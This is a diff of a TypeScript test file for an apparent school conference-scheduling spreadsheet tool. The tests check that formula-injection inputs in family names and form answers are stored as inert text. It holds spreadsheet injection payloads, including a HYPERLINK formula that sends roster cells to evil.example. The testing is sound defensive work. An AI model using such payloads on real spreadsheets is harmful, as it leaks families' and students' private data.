@@ -12,7 +12,6 @@ const LEAK = '=HYPERLINK("https://evil.example/?"&ENCODEURL(Roster!A1:Z999))';
 const WHO =
   'Who will come? (Another trusted adult, such as a grandparent, may come in your place.)';
 const TIMES = 'Which times suit you?';
-const ANSWER = '-A1+HYPERLINK("https://evil.example")';
 
 /** A school whose every student's family name is a formula and first name starts with @. */
 function hostileSchool(): School {
@@ -38,39 +37,42 @@ function cellAt(s: School, sheet: string, row: number, header: string) {
 }
 
 describe('placing a family at once', () => {
-  it('writes a name and an answer beginning with = + - @ as text, even where the formatting was cleared', () => {
-    const s = hostileSchool();
-    // A coordinator cleared the Schedule's formatting (Format > Clear formatting).
-    const schedule = s.emulator.spreadsheet.sheetByName('Schedule')!;
-    for (let row = 2; row <= schedule.maxRows; row++)
-      for (let column = 1; column <= schedule.maxColumns; column++)
-        schedule.patch(row, column, { nf: undefined });
-    run(s, 'forms');
-    const forms = JSON.parse(props(s).get('slc:forms')!) as {
-      availability: { linkTemplate: string; choices: { label: string }[] };
-    };
-    const [key, code] = [...props(s)].find(([k]) => k.startsWith('slc:family-code:'))!;
-    const familyId = key.slice('slc:family-code:'.length);
-    s.emulator.forms.submitPrefilled(
-      forms.availability.linkTemplate.replace('0000000000000000000000000000c0de', code),
-      { [`${TIMES} [${forms.availability.choices[0]!.label}]`]: '1st choice', [WHO]: ANSWER },
-    );
-    expect(s.emulator.triggers.firings.at(-1)!.error).toBeUndefined();
+  it.each(['-A1+HYPERLINK("https://evil.example")', '+SUM(Roster!A1:A999)'])(
+    'writes names beginning with = and @ and the answer %s as text, even where the formatting was cleared',
+    (ANSWER) => {
+      const s = hostileSchool();
+      // A coordinator cleared the Schedule's formatting (Format > Clear formatting).
+      const schedule = s.emulator.spreadsheet.sheetByName('Schedule')!;
+      for (let row = 2; row <= schedule.maxRows; row++)
+        for (let column = 1; column <= schedule.maxColumns; column++)
+          schedule.patch(row, column, { nf: undefined });
+      run(s, 'forms');
+      const forms = JSON.parse(props(s).get('slc:forms')!) as {
+        availability: { linkTemplate: string; choices: { label: string }[] };
+      };
+      const [key, code] = [...props(s)].find(([k]) => k.startsWith('slc:family-code:'))!;
+      const familyId = key.slice('slc:family-code:'.length);
+      s.emulator.forms.submitPrefilled(
+        forms.availability.linkTemplate.replace('0000000000000000000000000000c0de', code),
+        { [`${TIMES} [${forms.availability.choices[0]!.label}]`]: '1st choice', [WHO]: ANSWER },
+      );
+      expect(s.emulator.triggers.firings.at(-1)!.error).toBeUndefined();
 
-    const rows = schedule.values();
-    const placed = rows.findIndex((r) => r[rows[0]!.indexOf('Family ID')] === familyId) + 1;
-    expect(placed).toBeGreaterThan(1);
-    expect(cellAt(s, 'Schedule', placed, 'Family')).toEqual({ formula: '', value: LEAK });
-    const students = cellAt(s, 'Schedule', placed, 'Students');
-    expect(students.formula).toBe('');
-    expect(String(students.value)).toMatch(/^@\S+ =HYPERLINK\(/);
-    // The conference's day and time are still real dates, for sorting and filtering.
-    expect(cellAt(s, 'Schedule', placed, 'Date').value).toBeInstanceOf(Date);
-    expect(cellAt(s, 'Schedule', placed, 'Start').value).toBeInstanceOf(Date);
+      const rows = schedule.values();
+      const placed = rows.findIndex((r) => r[rows[0]!.indexOf('Family ID')] === familyId) + 1;
+      expect(placed).toBeGreaterThan(1);
+      expect(cellAt(s, 'Schedule', placed, 'Family')).toEqual({ formula: '', value: LEAK });
+      const students = cellAt(s, 'Schedule', placed, 'Students');
+      expect(students.formula).toBe('');
+      expect(String(students.value)).toMatch(/^@\S+ =HYPERLINK\(/);
+      // The conference's day and time are still real dates, for sorting and filtering.
+      expect(cellAt(s, 'Schedule', placed, 'Date').value).toBeInstanceOf(Date);
+      expect(cellAt(s, 'Schedule', placed, 'Start').value).toBeInstanceOf(Date);
 
-    const answered = s.emulator.spreadsheet.sheetByName('Availability')!.values();
-    const row = answered.findIndex((r) => r[answered[0]!.indexOf('Family ID')] === familyId) + 1;
-    expect(cellAt(s, 'Availability', row, 'Who Comes')).toEqual({ formula: '', value: ANSWER });
-    expect(cellAt(s, 'Availability', row, 'Family')).toEqual({ formula: '', value: LEAK });
-  });
+      const answered = s.emulator.spreadsheet.sheetByName('Availability')!.values();
+      const row = answered.findIndex((r) => r[answered[0]!.indexOf('Family ID')] === familyId) + 1;
+      expect(cellAt(s, 'Availability', row, 'Who Comes')).toEqual({ formula: '', value: ANSWER });
+      expect(cellAt(s, 'Availability', row, 'Family')).toEqual({ formula: '', value: LEAK });
+    },
+  );
 });
